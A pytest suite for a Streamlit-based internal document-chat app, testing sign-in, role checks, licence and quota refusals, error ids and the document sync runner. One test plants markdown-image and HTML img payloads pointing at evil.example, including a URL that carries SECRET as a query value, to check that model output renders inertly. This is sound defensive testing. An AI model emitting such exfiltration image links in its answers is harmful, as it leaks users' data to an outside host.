"""Attribution + licence refusal, OIDC sign-in, safe rendering, error ids, the sync runner."""

from __future__ import annotations

import threading
from pathlib import Path
from typing import Any, ClassVar

import pytest
from markdown_it import MarkdownIt
from streamlit.testing.v1 import AppTest

from core.errors import SyncInProgressError
from tests.ui.apptest_helpers import (
    APP,
    TIMEOUT,
    button,
    html_bodies,
    no_exceptions,
    open_page,
    popover_labels,
    sign_in,
    texts,
)
from tests.ui.conftest import UIEnv, make_env
from ui import runtime

pytestmark = pytest.mark.slow


def test_llama3_attribution_and_licence_refusal(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    env = make_env(tmp_path, model_name="Meta-Llama-3-70B-Instruct", sync=False)
    monkeypatch.setenv("ENCLAVE_CONFIG", str(env.config))
    at = sign_in("alice")
    assert "Built with Meta Llama 3" in texts(at)
    at.chat_input[0].set_value("What is the hotel budget?")
    at.run()
    no_exceptions(at)
    warning = "\n".join(str(w.value) for w in at.warning)
    assert "not cleared to answer" in warning, texts(at)
    assert "sha256" in warning  # the licence gate's own reason follows the plain sentence


def test_oidc_claims_give_roles(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    env = make_env(
        tmp_path,
        sync=False,
        extra_toml='auth = "oidc"\noidc_role_map = {"enclave-compliance" = "compliance"}',
    )
    monkeypatch.setenv("ENCLAVE_CONFIG", str(env.config))
    anonymous = AppTest.from_file(str(APP), default_timeout=TIMEOUT)
    anonymous.user = {"is_logged_in": False}
    anonymous.run()
    no_exceptions(anonymous)
    assert [b.label for b in anonymous.button] == ["Sign in with single sign-on"]

    at = AppTest.from_file(str(APP), default_timeout=TIMEOUT)
    at.user = {
        "is_logged_in": True,
        "preferred_username": "olga",
        "groups": ["staff", "enclave-compliance"],
    }
    at.run()
    no_exceptions(at)
    assert "Signed in as **olga** (compliance\\, employee)" in texts(at)
    assert "Audit chain intact" in texts(open_page(at, "audit"))
    from core.settings import load_settings
    from policies.service import PolicyService

    logins = PolicyService.from_settings(load_settings(env.config)).audit.records(
        event_type="login", user_id="olga"
    )
    assert len(logins) == 1 and logins[0]["details"] == {"ok": True, "method": "oidc"}

    plain = AppTest.from_file(str(APP), default_timeout=TIMEOUT)
    plain.user = {"is_logged_in": True, "preferred_username": "pete", "groups": ["staff"]}
    plain.run()
    assert "does not have the 'compliance' role" in texts(open_page(plain, "audit"))


def test_an_oidc_session_ends_when_the_account_is_disabled(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    env = make_env(tmp_path, sync=False, extra_toml='auth = "oidc"')
    monkeypatch.setenv("ENCLAVE_CONFIG", str(env.config))
    at = AppTest.from_file(str(APP), default_timeout=TIMEOUT)
    at.user = {"is_logged_in": True, "preferred_username": "alice", "groups": ["staff"]}
    at.run()
    no_exceptions(at)
    assert at.chat_input
    runtime.for_key().policies().accounts.disable("alice")  # an admin blocks her locally
    at.run()
    no_exceptions(at)
    assert not at.chat_input
    assert [b.label for b in at.button] == ["Sign in with single sign-on"]  # st.logout ran


def test_model_output_cannot_load_images_or_links(use_config: UIEnv) -> None:
    """Stored answers (and the conversation title) render through the inert renderer."""
    store = runtime.for_key().history()
    conv = store.create("alice", "probe ![t](https://evil.example/t.png)")
    store.add_message("alice", conv.id, "user", "injection probe")
    store.add_message(
        "alice",
        conv.id,
        "assistant",
        "Done ![x](https://evil.example/p.png?d=SECRET) see [here](https://evil.example) "
        "<img src=https://evil.example/i.png> www.evil.example\n```x`\n![b](http://evil.example/b.png)",
        citations=[
            {
                "n": 1,
                "path": "![c](http://evil.example/c.png).md",
                "source": "docs",
                "chunk_id": "",
                "text": "<img src=http://evil.example/d.png>",
            }
        ],
    )
    at = sign_in("alice")
    button(at, next(b.label for b in at.button if b.label.startswith("probe"))).click()
    at.run()
    no_exceptions(at)
    bodies = [b for b in html_bodies(at) if "evil" in b]
    assert bodies, texts(at)
    for body in bodies:
        assert (
            "<img" not in body
            and "<a " not in body
            and "src=" not in body.replace("&lt;img src=", "")
        ), body
    parser = MarkdownIt("commonmark", {"html": True})
    for element in [*at.markdown, *at.caption, *at.title]:
        assert "<img" not in parser.render(str(element.value)), element.value
    for label in [b.label for b in at.button] + popover_labels(at):
        assert "<img" not in parser.render(label) and "<a " not in parser.render(label), label
    for message in at.chat_message:
        for md in message.markdown:
            assert md.proto.allow_html is False


def test_unexpected_error_shows_an_id_not_a_traceback(caplog: pytest.LogCaptureFixture) -> None:
    probe = Path(__file__).with_name("error_probe_app.py")
    at = AppTest.from_file(str(probe)).run()
    assert not at.exception
    message = at.error[0].value
    assert "error id" in message and "internal detail" not in message
    error_id = message.rsplit(" ", 1)[-1]
    assert any(error_id in r.getMessage() and r.exc_info for r in caplog.records)


def test_sync_runner_runs_one_at_a_time(tmp_path: Path) -> None:
    from core.settings import load_settings
    from ui.sync_runner import SyncRunner

    release = threading.Event()
    calls: list[tuple[Any, ...]] = []

    class Summary:
        failed: ClassVar[list[Any]] = []

        def counters(self) -> dict[str, int]:
            return {"added": 1}

        def as_dict(self) -> dict[str, int]:
            return {"added": 1}

    def slow_sync(*args: Any, **kwargs: Any) -> Summary:
        calls.append(args)
        release.wait(30)
        return Summary()

    runner = SyncRunner(load_settings(None, data_dir=tmp_path), sync_fn=slow_sync)
    runner.start(tmp_path, "one", 1)
    assert runner.running
    with pytest.raises(SyncInProgressError):
        runner.start(tmp_path, "two", 1)
    release.set()
    state = runner.wait(30)
    assert state is not None and not state.running and state.counters == {"added": 1}
    assert [c[2] for c in calls] == ["one"]
    runner.start(tmp_path, "three", 1)
    assert runner.wait(30) is not None and [c[2] for c in calls] == ["one", "three"]


def test_scheduled_sync_picks_up_new_files(tmp_path: Path) -> None:
    import os

    from core.settings import load_settings
    from ingest.sync.status import collect_status
    from ui import background, runtime

    env = make_env(tmp_path, extra_toml="background_sync_interval_s = 3600")
    (env.docs / "handbook" / "parking.md").write_text("# Parking\n\nPark in lot B.\n")
    old = os.environ.get("ENCLAVE_CONFIG")
    os.environ["ENCLAVE_CONFIG"] = str(env.config)
    try:
        key = runtime.config_key()
        assert background.sync_all_sources(key) == 1
        state = runtime.for_key(key).sync_runner().state
        assert state is not None and state.error is None and state.counters["added"] == 1
        [docs] = collect_status(load_settings(env.config))
        assert docs.files["ok"] == 4
    finally:
        if old is None:
            os.environ.pop("ENCLAVE_CONFIG", None)
        else:
            os.environ["ENCLAVE_CONFIG"] = old


def test_background_loops_stop_when_asked(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The request server and the scheduled-sync loop end on stop_all (the test session calls it
    after each test: before, they outlived their test's database and logged db.error)."""
    import threading
    import time

    from ui import background

    env = make_env(tmp_path, extra_toml="background_sync_interval_s = 3600")
    monkeypatch.setenv("ENCLAVE_CONFIG", str(env.config))
    names = {"enclave-sync-requests", "enclave-scheduled-sync"}

    def running() -> set[str]:
        return {t.name for t in threading.enumerate() if t.name in names}

    background.stop_all()
    deadline = time.monotonic() + 10
    while running() and time.monotonic() < deadline:  # earlier tests' loops
        time.sleep(0.1)
    background.start_once()
    assert running() == names
    background.stop_all()
    deadline = time.monotonic() + 10
    while running() and time.monotonic() < deadline:
        time.sleep(0.1)
    assert running() == set()
    background.start_once()  # and they start again
    assert running() == names
    background.stop_all()


@pytest.mark.postgres
def test_chat_and_audit_on_postgresql(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, pg_database: str
) -> None:
    env = make_env(tmp_path, database_url=pg_database)
    monkeypatch.setenv("ENCLAVE_CONFIG", str(env.config))
    at = sign_in("alice")
    at.chat_input[0].set_value("What is the hotel budget per night in capital cities?")
    at.run()
    no_exceptions(at)
    assert any("travel\\-policy\\.md" in label for label in popover_labels(at)), texts(at)
    again = sign_in("alice")
    assert [b for b in again.button if b.label.startswith("What is the hotel budget")]
    audit = open_page(sign_in("cora"), "audit")
    assert "Audit chain intact" in texts(audit), texts(audit)


def test_quota_refusal_in_plain_words(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    usage = tmp_path / "usage.yaml"
    usage.write_text(
        "allowed_roles: [employee, admin, compliance]\n"
        "limits:\n  default: {requests_per_day: 1, tokens_per_day: null, "
        "requests_per_minute: null}\n"
    )
    env = make_env(tmp_path, sync=False, extra_toml=f'\n[policy]\nusage_file = "{usage}"')
    monkeypatch.setenv("ENCLAVE_CONFIG", str(env.config))
    at = sign_in("alice")
    for question in ("What is the hotel budget?", "And for trains?"):
        at.chat_input[0].set_value(question)
        at.run()
        no_exceptions(at)
    warnings = [str(w.value) for w in at.warning]
    assert any("daily number of questions" in w for w in warnings), texts(at)


def test_a_ui_sync_leaves_no_parser_process_behind(tmp_path: Path) -> None:
    """After a sync run by the UI (real parser workers), the UI process has no parser
    forkserver (about 470 MB idle) and no zombie left: it returns to its idle process set."""
    import os

    import psutil

    from core.settings import load_settings
    from ui.sync_runner import SyncRunner

    docs = tmp_path / "docs"
    docs.mkdir()
    for i in range(3):
        (docs / f"note-{i}.md").write_text(f"# Note {i}\n\nThe parking lot {i} opens at 7:0{i}.\n")
    (tmp_path / "access.yaml").write_text("default: [staff]\nrules: []\n")
    settings = load_settings(
        None, data_dir=tmp_path / "data", access_rules=tmp_path / "access.yaml"
    )
    runner = SyncRunner(settings)
    runner.start(docs, "notes", 1)
    state = runner.wait(300)
    assert state is not None and state.error is None and state.counters["added"] == 3

    def leftovers() -> list[str]:
        found = []
        for child in psutil.Process(os.getpid()).children(recursive=True):
            try:
                if child.status() == psutil.STATUS_ZOMBIE:
                    found.append(f"zombie {child.pid}")
                elif "multiprocessing" in " ".join(child.cmdline()):
                    found.append(" ".join(child.cmdline())[:60])
            except psutil.NoSuchProcess:
                continue
        return found

    assert leftovers() == []
